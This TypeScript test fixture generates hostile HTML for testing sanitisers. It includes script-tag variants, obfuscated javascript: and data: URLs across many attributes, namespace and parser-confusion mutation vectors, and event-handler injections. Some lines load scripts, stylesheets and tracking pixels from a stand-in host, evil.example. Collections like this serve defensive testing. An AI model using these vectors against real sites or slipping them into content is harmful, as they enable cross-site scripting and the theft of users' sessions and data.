/** Markup that tries to act, written for the tests: each of these once got past somebody's sanitiser, or its idea did. */

const run = 'top.ran(1)'

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
  `<script/x>${run}</script >`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script><!--<script></script>${run}--></script>`,
  `<script type=module>${run}</script><script type=speculationrules>{"prefetch":[{"urls":["/x"]}]}</script>`,
  `<svg><script>${run}</script><script href="data:,${run}"/></svg>`,
  `<math><script>${run}</script></math>`,
  `<noscript><script>${run}</script></noscript>`,
  `<template><script>${run}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
]

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `  javascript:${run}`,
  `&#1;javascript:${run}`,
  `java&#10;script:${run}`,
  `java\tscript:${run}`,
  `javascript&colon;${run}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run}`,
  `javascript://%0a${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AucmFuKDEpPC9zY3JpcHQ+`,
  `blob:https://a.example/1`,
  `view-source:https://a.example/`,
  `//evil.example\\@a.example/`,
  `https://a.example/" onclick="${run}`,
  `https://a.example/<script>${run}</script>`,
]
const bearers = [
  ['<a href="', '">link</a>'],
  ["<a href='", "'>link</a>"],
  ['<img src="', '">'],
  ['<img srcset="', ' 2x">'],
  ['<blockquote cite="', '">quote</blockquote>'],
  ['<iframe src="', '"></iframe>'],
  ['<embed src="', '">'],
  ['<object data="', '"></object>'],
  ['<video src="', '" poster="javascript:1"></video>'],
  ['<form action="', '"><button>go</button></form>'],
  ['<button formaction="', '">go</button>'],
  ['<svg><a xlink:href="', '"><text>x</text></a></svg>'],
  ['<math href="', '">x</math>'],
  ['<base href="', '"><a href=x>x</a>'],
  ['<meta http-equiv=refresh content="0;url=', '">'],
  ['<a href="https://www.google.com/url?q=', '">door</a>'],
] as const

const namespaces = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><p><style><!--</style><img src=x onerror=${run}>--></style>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg><desc><table><tr><td><title><img src=x onerror=${run}></title></td></tr></table></desc></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s><set attributeName=href to="javascript:${run}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><style><![CDATA[</style><img src=x onerror=${run}>]]></style></svg>`,
  `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  `<math><mi><xmp><p title="</xmp><img src=x onerror=${run}>"></xmp></mi></math>`,
  `<svg><title><xmp></title></svg></xmp><img src=x onerror=${run}>`,
]

const confusions = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${run}>"></title>`,
  `<style><p title="</style><img src=x onerror=${run}>"></style>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<iframe><p title="</iframe><img src=x onerror=${run}>"></iframe>`,
  `<select><template><p title="</template></select><img src=x onerror=${run}>"></template></select>`,
  `<select><iframe></select><img src=x: onerror=${run}>`,
  `<select><style></select><img src=x onerror=${run}></style>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<!-- <p title="--><img src=x onerror=${run}>"> -->`,
  `<?xml-stylesheet href="><img src=x onerror=${run}>">`,
  `<!doctype html><!x "><img src=x onerror=${run}>">`,
  `</ title="><img src=x onerror=${run}>">`,
  `<plaintext><img src=x onerror=${run}>`,
  `<table><td><table><a href="x"><td title="</a><img src=x onerror=${run}>">`,
  `<table><style><tr title="</style><img src=x onerror=${run}>">`,
  `<p id="</p><img src=x onerror=${run}>" title='"><img src=x onerror=${run}>'>x</p>`,
  `<img alt="\`><img src=x onerror=${run}>" src=\`x\`>`,
  `<img title="&quot;&gt;&lt;img src=x onerror=${run}&gt;" src=x>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `<a title="x" href="https://a.example/?a=&quot;onmouseover=${run}//">x</a>`,
  `<p/onclick=${run}/title=x>y</p>`,
  `<p\u000conclick=${run}>y</p>`,
  `<p\0onclick=${run} on\0click=${run}>y</p>`,
  `<p "onclick=${run} =onclick=${run}>y</p>`,
  `<x-y onclick=${run} is=x>y</x-y><b is="x-y" slot=z part=q>b</b>`,
  `<ımg src=x onerror=${run}><ſcript>${run}</ſcript><linK rel=stylesheet href=x>`,
]

const pages = [
  `<form id=getElementById><input name=attributes><img name=body><a id=location></form>`,
  `<a id=x tabindex=1 accesskey=x autofocus>y</a><p contenteditable draggable=true popover popovertarget=x>z</p>`,
  `<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/)}</style>`,
  `<p style="background:url('https://evil.example/p')">x</p><td background="https://evil.example/b">`,
  `<link rel=stylesheet href="https://evil.example/x.css"><link rel=dns-prefetch href="//evil.example">`,
  `<a href="https://a.example/" ping="https://evil.example/" target=_top download>x</a>`,
  `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`,
  `<body onload=${run} background="javascript:${run}"><html onclick=${run}>`,
  `<isindex action="javascript:${run}" type=image>`,
  `<marquee onstart=${run}>m</marquee><details open ontoggle=${run}><summary>s</summary></details>`,
  `<video><source onerror=${run}></video><audio src=x onerror=${run}></audio>`,
  `<input autofocus onfocus=${run}><select autofocus onfocus=${run}><textarea autofocus onfocus=${run}></textarea>`,
  `<map name=m><area href="javascript:${run}" shape=default></map><img usemap=#m src=x>`,
  `<object type="text/html" data="data:text/html,<script>parent.${run}</script>"><param name=src value="javascript:${run}"></object>`,
  `<applet code=x archive=y></applet><embed type="text/html" src="data:text/html,<script>${run}</script>">`,
  `<div hidden=until-found onbeforematch=${run}>x</div><div style="content-visibility:auto" oncontentvisibilityautostatechange=${run}>y</div>`,
  `<dialog open onclose=${run}>d<form method=dialog><button autofocus>x</button></form></dialog>`,
  `<img src=x:x onerror=${run}><img src="https://evil.example/px.gif" width=1 height=1>`,
]

/** Values that end whatever is around them, on attributes that are kept. */
const endings = 'noscript style title textarea xmp iframe noembed template select svg math table'
  .split(' ')
  .flatMap((name) => [
    `<abbr title="</${name}><img src=x onerror=${run}>">x</abbr>`,
    `<img alt="--></${name}><script>${run}</script>" src=x>`,
  ])

/** `handlers`: names of event handlers, from the browser that is to be attacked. */
export function hostileMarkup(handlers: readonly string[]): string[] {
  return [
    ...scripts,
    ...bearers.flatMap(([before, after]) => addresses.map((address) => before + address + after)),
    ...namespaces,
    ...confusions,
    ...pages,
    ...endings,
    ...handlers.flatMap((name) => [
      `<p ${name}=${run} tabindex=1>x</p><img src=x ${name}="${run}"><a href="https://a.example/" ${name.toUpperCase()}='${run}'>y</a>`,
      `<svg ${name}=${run}><text ${name}=${run}>x</text></svg><video ${name}=${run} src=x></video><details ${name}=${run} open>z</details>`,
    ]),
  ]
}

/** Where markup may stand when it is read, or written: what is around it changes how a browser takes it. */
export const places: Readonly<Record<string, readonly [before: string, after: string]>> = {
  text: ['', ''],
  attribute: ['<p title="', '">x</p>'],
  table: ['<table>', '</table>'],
  cell: ['<table><tr><td>', '</td></tr></table>'],
  select: ['<select>', '</select>'],
  svg: ['<svg>', '</svg>'],
  foreignObject: ['<svg><foreignObject>', '</foreignObject></svg>'],
  math: ['<math>', '</math>'],
  mtext: ['<math><mtext>', '</mtext></math>'],
  template: ['<template>', '</template>'],
  noscript: ['<noscript>', '</noscript>'],
}
